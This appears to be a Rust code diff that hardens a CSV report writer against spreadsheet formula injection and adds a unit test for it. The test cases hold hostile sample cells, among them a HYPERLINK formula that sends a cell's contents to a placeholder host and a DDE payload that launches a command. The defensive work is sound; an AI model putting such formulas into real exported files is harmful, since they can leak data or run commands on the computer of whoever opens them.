@@ -169,9 +169,13 @@ fn format_time(time: &DateTime<Utc>) -> String {
 }
 
 /// One CSV line (RFC 4180): fields quoted only when they hold a comma, quote or line break.
+/// A field a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return: user ids and application ids come from callers) is prefixed with `'`,
+/// as OWASP advises, so the operator who opens the report sees text, not a formula.
 fn csv_line(fields: impl IntoIterator<Item = String>) -> String {
     let mut line = fields
         .into_iter()
+        .map(|field| if field.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{field}") } else { field })
         .map(|field| if field.contains([',', '"', '\n', '\r']) { format!("\"{}\"", field.replace('"', "\"\"")) } else { field })
         .collect::<Vec<_>>()
         .join(",");
@@ -182,6 +186,23 @@ fn csv_line(fields: impl IntoIterator<Item = String>) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn attack_f17_report_cells_never_start_a_formula() {
+        let cases = [
+            ("=HYPERLINK(\"http://x/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\""),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "\"'\r=1\""),
+            ("alice", "alice"),
+            ("a=b", "a=b"),
+        ];
+        for (field, cell) in cases {
+            assert_eq!(csv_line([field.to_owned()]), format!("{cell}\n"), "{field:?}");
+        }
+    }
 
     /// Recorded events in, byte-identical CSVs out (the expected files are written by hand).
     #[test]
